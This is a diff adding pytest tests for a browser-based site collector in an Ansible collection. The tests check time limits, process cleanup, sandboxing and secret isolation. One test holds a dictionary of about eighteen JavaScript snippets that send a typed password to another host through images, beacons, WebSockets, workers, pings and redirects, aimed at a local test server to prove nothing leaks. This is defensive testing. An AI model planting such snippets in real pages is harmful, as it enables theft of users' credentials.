@@ -5,7 +5,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import gzip
+import os
+import pathlib
 import resource
 import socket
 import socketserver
@@ -16,7 +19,7 @@ from collections.abc import Callable, Iterator
 import pytest
 
 from ansible_collections.labops.cloudresearch.plugins.plugin_utils.base.errors import CollectionError
-from tests.stack.written_sites import Run, Site
+from tests.stack.written_sites import Request, Run, Site, good_site, runner
 
 HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
 
@@ -118,3 +121,164 @@ def test_a_page_without_end_is_not_read(sites: tuple[Site, Site], over_http: Run
         over_http(own)
     assert caught.value.reason == "page_changed"
     assert "larger than" in caught.value.message
+
+
+def descendants() -> dict[int, bytes]:
+    """The environments of all processes below this one that have not ended, by their numbers."""
+    found: dict[int, bytes] = {os.getpid(): b""}
+    for _generation in range(6):
+        for entry in pathlib.Path("/proc").iterdir():
+            if not entry.name.isdigit() or int(entry.name) in found:
+                continue
+            with contextlib.suppress(OSError):
+                state, parent = (entry / "stat").read_text().rpartition(")")[2].split()[:2]
+                if state != "Z" and int(parent) in found:
+                    found[int(entry.name)] = (entry / "environ").read_bytes()
+    del found[os.getpid()]
+    return found
+
+
+BUSY = {
+    "at once": "<h1>Hello</h1><script>while (true) {}</script>",
+    "a moment later": "<h1>Hello</h1><script>setTimeout(() => { while (true) {} }, 300)</script>",
+    "when it is looked at": "<h1>Hello</h1><script>Object.defineProperty(document, 'title', "
+    "{ get() { while (true) {} } })</script>",
+    "with alerts": "<h1>Hello</h1><script>setInterval(() => alert('hello'), 10)</script>",
+    "for ever new": "<h1>Hello</h1><script>setInterval(() => fetch('/'), 20)</script>",
+    "from page to page": "<script>location.replace('/?' + Math.random())</script>",
+}
+
+
+@pytest.mark.parametrize("name", BUSY)
+def test_a_page_that_never_rests_ends_at_the_time_limit(sites: tuple[Site, Site], in_browser: Run, name: str) -> None:
+    own, _foreign = sites
+    own.answers["/"] = BUSY[name]
+    start = time.monotonic()
+    with pytest.raises(CollectionError) as caught:
+        in_browser(own, timeout=6)
+    assert caught.value.reason in ("timeout", "page_changed")
+    # The time limit, and closing the window.
+    assert time.monotonic() - start < 14
+
+
+def test_a_busy_page_does_not_outlive_its_visit(sites: tuple[Site, Site], tmp_path: pathlib.Path) -> None:
+    own, _foreign = sites
+    own.answers["/"] = BUSY["at once"]
+    before = set(descendants())
+    start = time.monotonic()
+    with pytest.raises(CollectionError) as caught:
+        runner("browser", tmp_path)(own, timeout=10)
+    assert caught.value.reason == "timeout"
+    assert time.monotonic() - start < 25
+    while set(descendants()) - before and time.monotonic() - start < 40:
+        time.sleep(0.1)
+    assert not set(descendants()) - before
+
+
+def test_the_browser_gets_nothing_of_the_operators_environment(
+    sites: tuple[Site, Site], tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    own, _foreign = sites
+    for name in (
+        "AWS_SECRET_ACCESS_KEY",
+        "AWS_PROFILE",
+        "VAULT_TOKEN",
+        "BAO_TOKEN",
+        "ANSIBLE_VAULT_PASSWORD_FILE",
+        "X",
+    ):
+        monkeypatch.setenv(name, "of-the-operator")
+    seen: list[bytes] = []
+
+    def look(_request: Request) -> str:
+        seen.extend(descendants().values())
+        return "<h1>Hello</h1>"
+
+    own.answers["/"] = look
+    with pytest.raises(CollectionError):
+        runner("browser", tmp_path)(own)
+    assert len(seen) >= 2
+    assert b"of-the-operator" not in b"".join(seen)
+    assert os.environ["VAULT_TOKEN"] == "of-the-operator"
+
+
+def test_no_browser_without_its_sandbox_unless_the_operator_says_so(
+    sites: tuple[Site, Site], tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    own, _foreign = sites
+    own.answers["/"] = "<div id=app></div><script src=/app.js></script>"
+    monkeypatch.setattr(os, "geteuid", lambda: 0)
+    with pytest.raises(CollectionError, match="sandbox") as caught:
+        runner("browser", tmp_path)(own, allow_unsandboxed_browser=False)
+    assert "allow_unsandboxed_browser" in caught.value.next_step
+    assert own.requests == []
+    with pytest.raises(CollectionError, match="sign-in form") as caught:
+        runner("auto", tmp_path)(own, allow_unsandboxed_browser=False)
+    assert caught.value.reason == "page_changed"
+    assert "allow_unsandboxed_browser" in caught.value.next_step
+
+
+# How a script of a third party could carry away what was typed; the value is in none of the known spellings.
+TAKEN = "Array.from(document.querySelector('[name=p]').value).reverse().join('')"
+WAYS = {
+    "an image": "new Image().src = '{url}/x?' + {taken}",
+    "a script": "const s = document.createElement('script'); s.src = '{url}/x?' + {taken}; document.head.append(s)",
+    "a style sheet": "const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '{url}/x?' + {taken}; "
+    "document.head.append(s)",
+    "a beacon": "navigator.sendBeacon('{url}/x', {taken})",
+    "a beacon at the end": "const v = {taken}; addEventListener('pagehide', () => navigator.sendBeacon('{url}/x', v))",
+    "a fetch that outlives the page": "const v = {taken}; addEventListener('pagehide', () => fetch('{url}/x?' + v, "
+    "{{keepalive: true, mode: 'no-cors'}}))",
+    "a WebSocket": "const w = new WebSocket('{ws}/x?' + {taken}); w.onopen = () => w.send({taken})",
+    "a server's events": "new EventSource('{url}/x?' + {taken})",
+    "a frame": "const f = document.createElement('iframe'); f.src = '{url}/x?' + {taken}; document.body.append(f)",
+    "a window": "window.open('{url}/x?' + {taken})",
+    "prefetching": "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{url}/x?' + {taken}; "
+    "document.head.append(l)",
+    "a connection": "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{url}'; "
+    "document.head.append(l)",
+    "a worker": "const v = {taken}; new Worker(URL.createObjectURL(new Blob(['fetch(\\'{url}/x?' + v + '\\', "
+    "{{mode: \\'no-cors\\'}})'])))",
+    "a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(['fetch(\\'{url}/x?' + v + "
+    "'\\', {{mode: \\'no-cors\\'}})'])))",
+    "a socket of a shared worker": "const v = {taken}; new SharedWorker(URL.createObjectURL(new Blob(["
+    "'new WebSocket(\\'{ws}/x?' + v + '\\')'])))",
+    "a redirect of the site's own": "fetch('/away?' + {taken}, {{mode: 'no-cors'}})",
+    "a ping": "const a = document.createElement('a'); a.href = '#'; a.ping = '{url}/x?' + {taken}; "
+    "document.body.append(a); a.click()",
+    "another page": "location.href = '{url}/x?' + {taken}",
+}
+
+
+@pytest.mark.parametrize("name", WAYS)
+def test_nothing_leaves_a_page_with_a_secret_for_another_host(
+    sites: tuple[Site, Site], in_browser: Run, name: str
+) -> None:
+    own, foreign = sites
+    good_site(own)
+    foreign.answers["/x"] = "x"
+    own.answers["/away"] = lambda request: (302, {"Location": f"{foreign.url}/x?{request.path.partition('?')[2]}"}, "")
+    script = WAYS[name].format(url=foreign.url, ws=foreign.url.replace("http", "ws"), taken=TAKEN)
+    own.answers["/"] = (
+        f"<title>Log in</title><script>function take() {{ {script} }}</script>"
+        "<form method=post action=/login><label>Email<input name=e></label>"
+        '<label>Password<input type=password name=p oninput="take()"></label><button>Log in</button></form>'
+    )
+    try:
+        in_browser(own)
+    except CollectionError as exc:
+        assert exc.reason in ("page_changed", "portal_unavailable")
+    assert foreign.requests == []
+    assert foreign.connections == 0
+
+
+def test_pages_after_the_one_with_the_secret_get_what_draws_them(sites: tuple[Site, Site], in_browser: Run) -> None:
+    own, foreign = sites
+    good_site(own)
+    foreign.answers["/menu.js"] = (
+        200,
+        {"Content-Type": "text/javascript"},
+        "document.body.innerHTML = '<a href=/link>Link Mechanical Turk</a>'",
+    )
+    own.answers["/home"] = f"<title>Home</title><body><script src={foreign.url}/menu.js></script>"
+    assert in_browser(own).link.status == "linked"
